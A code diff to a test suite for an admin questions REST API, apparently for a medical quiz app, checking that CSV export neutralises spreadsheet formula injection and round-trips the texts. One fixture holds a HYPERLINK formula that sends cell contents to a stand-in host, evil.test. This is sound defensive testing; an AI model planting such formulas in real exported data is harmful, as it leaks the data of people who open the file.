@@ -351,8 +351,9 @@ describe('admin questions REST', () => {
 
     it('should neutralise cells a spreadsheet would run as a formula, and import them back to the same texts', async () => {
       const hyperlink = '=HYPERLINK("https://evil.test/?d="&A1,"Open the guideline")';
+      const stem = '-5 mmol/L is the change in potassium after the infusion in this 70-year-old man. What is the next step?';
       const created = await create('formula-cells', {
-        stem: '-5 mmol/L is the change in potassium after the infusion in this 70-year-old man. What is the next step?',
+        stem,
         options: [
           { key: 'A', text: hyperlink, explanation: '=1+1 is not an explanation a spreadsheet should compute.' },
           { key: 'B', text: '+ve troponin', explanation: '@SUM(A1:A9) stays text.' },
@@ -367,7 +368,7 @@ describe('admin questions REST', () => {
       expect(cell('option_A_explanation')).toBe("'=1+1 is not an explanation a spreadsheet should compute.");
       expect(cell('option_B')).toBe("'+ve troponin");
       expect(cell('option_B_explanation')).toBe("'@SUM(A1:A9) stays text.");
-      expect(cell('stem')).toBe(`'${created.record.stem}`);
+      expect(cell('stem')).toBe(`'${stem}`);
       expect(rows.flatMap((r) => r.fields).filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
 
       const file = stringify([header.fields, row.fields]);
